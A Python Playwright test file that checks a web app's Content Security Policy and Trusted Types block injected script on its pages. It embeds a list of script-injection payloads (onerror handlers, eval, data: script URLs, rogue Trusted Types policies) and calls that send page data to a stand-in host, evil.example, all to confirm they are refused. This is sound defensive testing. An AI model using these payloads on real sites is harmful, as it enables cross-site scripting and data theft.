"""What the Content Security Policy and Trusted Types stop in a real browser, on the real page.

That the page itself does nothing of the kind is seen by every test of this folder: a violation is an error on the
console, and ``troubles`` fails at each. Here somebody has got a foot into the page, and tries to have a program run.
"""

import pytest
from playwright.sync_api import Page, Route, expect

from page.conftest import Arrive, Troubles

pytestmark = pytest.mark.service_worker

FOOT_IN_THE_DOOR = """async ([attempt]) => {
  const seen = []
  addEventListener("securitypolicyviolation", (event) => seen.push(event.effectiveDirective))
  window.ran = []
  const code = "ran.push(1)", inline = `<script>${code}</script>`, evil = "https://evil.example/x"
  const put = (tag, values, where = document.body) => {
    const made = Object.assign(document.createElement(tag), values)
    where.append(made)
    return made
  }
  const attempts = {
    markup: () => { document.body.innerHTML = `<img src=x onerror='${code}'>` },
    adjacent: () => document.body.insertAdjacentHTML("beforeend", `<svg onload='${code}'>`),
    frame: () => put("iframe", { srcdoc: `<script>parent.${code}</script>` }),
    parsed: () => document.body.append(document.createRange().createContextualFragment(inline)),
    written: () => document.write(inline),
    evaluated: () => (0, eval)(code),
    made: () => new Function(code)(),
    timer: () => setTimeout(code),
    script: () => put("script", { textContent: code }),
    address: () => put("script", { src: evil }),
    data: () => put("script", {}).setAttribute("src", "data:text/javascript," + code),
    attribute: () => { document.body.setAttribute("onclick", code); document.body.click() },
    worker: () => new Worker("data:text/javascript,1"),
    service: () => navigator.serviceWorker.register("/assets/evil.js"),
    policy: () => trustedTypes.createPolicy("evil", { createHTML: (text) => text }),
    again: () => trustedTypes.createPolicy("sobremesa", { createHTML: (text) => text }),
    imported: () => import("data:text/javascript," + code),
    told: () => fetch(evil + document.title),
    socket: () => new WebSocket("wss://evil.example/"),
    picture: () => put("img", { src: evil }),
    style: () => put("style", { textContent: `@import '${evil}'` }),
    sheet: () => put("link", { rel: "stylesheet", href: evil }),
    base: () => put("base", { href: evil }, document.head),
    form: () => put("form", { action: evil }).requestSubmit(),
    object: () => put("object", { data: evil }),
    window: () => put("iframe", { src: evil }),
  }
  if (attempt === null) return Object.keys(attempts)
  await new Promise((done) => setTimeout(done))  // from here on it is the page's own, and no longer the tester's
  let thrown = ""
  try { await attempts[attempt]() } catch (error) { thrown = error.name }
  for (let round = 0; round < 500 && !seen.length && !thrown && !ran.length; round++)
    await new Promise((done) => setTimeout(done, 20))
  return { seen, thrown, ran: ran.length, base: document.baseURI }
}"""


def attempts(page: Page) -> list[str]:
    return list(page.evaluate(FOOT_IN_THE_DOOR, [None]))


def test_nothing_that_somebody_brings_in_is_run_or_told(arrive: Arrive, troubles: Troubles) -> None:
    troubles.allow("Content Security Policy|Trusted|trusted", "uncaught", "evil|data:|refused|Refused|violates")
    page = arrive("/new/knister")
    expect(page.get_by_role("heading", level=1)).to_be_visible()
    left: list[str] = []
    page.context.on("requestfinished", lambda request: left.append(request.url))
    page.context.on("requestfailed", lambda request: left.append(f"{request.url} {request.failure}"))
    address = page.url
    for attempt in attempts(page):
        page.goto(address)
        found = page.evaluate(FOOT_IN_THE_DOOR, [attempt])
        assert found["seen"] or found["thrown"], f"{attempt}: nobody objected"
        assert found["ran"] == 0, f"{attempt} was run"
        assert found["base"].startswith(address.split("/new")[0]), attempt
    asked = [told for told in left if "evil.example" in told]
    assert all("csp" in told.lower() for told in asked), "what went out was stopped by the browser, not by chance"


@pytest.mark.parametrize("attempt", ["markup", "evaluated", "script", "attribute"])
def test_without_the_policy_it_would_be_run(arrive: Arrive, troubles: Troubles, attempt: str) -> None:
    """The same attempts at a page whose headers were taken away: the test above can fail."""
    troubles.allow("")
    page = arrive()

    def bare(route: Route) -> None:
        answer = route.fetch()
        headers = {name: value for name, value in answer.headers.items() if name != "content-security-policy"}
        route.fulfill(response=answer, headers=headers)

    page.route("**/new/knister", bare)
    page.goto("/new/knister")
    expect(page.get_by_role("heading", level=1)).to_be_visible()
    assert page.evaluate(FOOT_IN_THE_DOOR, [attempt])["ran"]


@pytest.mark.parametrize("path", ["/", "/lobby", "/me", "/settings", "/rules/knister", "/learn/knister", "/r/nowhere"])
def test_every_kind_of_page_has_the_policy(arrive: Arrive, troubles: Troubles, path: str) -> None:
    troubles.allow("404")
    page = arrive()
    answer = page.goto(path)
    assert answer is not None
    policy = answer.headers["content-security-policy"]
    assert "require-trusted-types-for 'script'" in policy
    assert "unsafe" not in policy
